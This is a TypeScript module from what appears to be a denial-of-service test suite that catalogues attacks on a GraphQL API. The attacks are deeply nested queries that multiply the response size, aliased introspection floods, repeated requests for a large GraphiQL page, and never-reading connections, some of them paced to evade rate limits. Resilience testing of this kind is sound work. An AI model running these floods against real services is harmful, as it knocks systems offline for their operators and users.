import type { Attack, Subject, Target } from '../attack.ts';
import { flood, neverRead, same } from '../deliveries.ts';
import { introspection } from '../introspection.ts';
import { graphql, request } from '../wire.ts';

/** `neighbours` within `neighbours`: few distinct look-ups, but a response that grows with every level. */
const neighbours = (levels: number): string =>
  `{ countriesByCode(code: "DE") { ${'neighbours { '.repeat(levels)}alpha2${' }'.repeat(levels)} } }`;

/** Each level multiplies the response by a hundred. */
const airports = (levels: number): string =>
  `{ aviationAirport(code: "JFK") { ${'country { airports(limit: 100) { items { '.repeat(levels)}name${' } } }'.repeat(levels)} } }`;

const withFreeKey = (query: string): Attack['run'] => {
  // Within the rate limit of a free account.
  const pace = { connections: 4, everyMs: 400 };
  return (target) => flood(target, same(graphql(query, { key: target.keys.free[0] })), pace);
};

const nested = (name: string, title: string, query: string): Subject => ({
  name,
  title: `${title}, with a free key`,
  kind: 'found',
  attacks: [{ name, run: withFreeKey(query) }],
});

const ALIASES = graphql(introspection(20));
const PAGE = request({ path: '/graphql', headers: { Accept: 'text/html' } });

/** Creates attacks without a key, one from the client's address and one from a different address. */
const fromBoth = (name: string, title: string, run: (target: Target) => Promise<void>): Subject[] => [
  { name, title: `${title}, no key`, kind: 'found', attacks: [{ name, run }] },
  {
    name: `${name}-same-address`,
    title: `${title}, no key, from the client's address`,
    kind: 'found',
    sameAddress: true,
    attacks: [{ name, run }],
  },
];

export const graphqlAnswers: readonly Subject[] = [
  nested('edges-neighbours-9', 'neighbours nested nine deep', neighbours(9)),
  nested('edges-neighbours-8', 'neighbours nested eight deep', neighbours(8)),
  nested('edges-airports', 'airport, country, a hundred airports, three times over', airports(3)),
  ...fromBoth('introspection', 'twenty aliases of __schema, asked for by sixteen connections', (target) =>
    flood(target, same(ALIASES), { connections: 16 }),
  ),
  {
    name: 'introspection-unread',
    title: 'the same by sixty clients that never read, no key',
    kind: 'found',
    attacks: [{ name: 'unread', run: (target) => neverRead(target, same(ALIASES), { connections: 60 }) }],
  },
  ...fromBoth('graphiql', 'the GraphiQL page of 9 MB, by 32 connections', (target) =>
    flood(target, same(PAGE), { connections: 32 }),
  ),
  {
    name: 'graphiql-unread',
    title: 'the GraphiQL page for three hundred clients that never read, no key',
    kind: 'found',
    attacks: [{ name: 'unread', run: (target) => neverRead(target, same(PAGE), { connections: 300 }) }],
  },
];
